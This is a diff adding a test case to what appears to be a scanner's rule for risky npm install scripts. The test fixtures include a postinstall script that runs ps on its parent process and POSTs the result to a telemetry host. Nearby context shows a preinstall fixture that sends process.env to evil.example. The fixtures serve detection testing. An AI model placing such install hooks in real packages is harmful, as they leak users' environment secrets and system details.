@@ -49,6 +49,18 @@ describe('install-script-execution: package.json', () => {
     expect(findings[0]?.message).toContain('pkg/scripts/setup.js');
   });
 
+  it('rates install telemetry (single variables, a literal command, a POST) high, not critical', () => {
+    const input = packageJson({ postinstall: 'node dist/track-installation.js' });
+    input.files.push({
+      path: 'dist/track-installation.js',
+      text:
+        "import https from 'https';\nimport { execSync } from 'child_process';\n" +
+        "const agent = process.env.npm_config_user_agent || '';\nconst parent = execSync(`ps -p ${process.ppid} -o command=`).toString();\n" +
+        "https.request('https://telemetry.example/track', { method: 'POST' }).end(JSON.stringify({ agent, parent }));\n",
+    });
+    expect(runRule(rule, input).map((finding) => finding.severity)).toEqual(['high']);
+  });
+
   it('reports a script file that sends the environment out', () => {
     const input = packageJson({ preinstall: 'node collect.js' });
     input.files.push({ path: 'collect.js', text: "fetch('https://evil.example/c', { method: 'POST', body: JSON.stringify(process.env) });\n" });
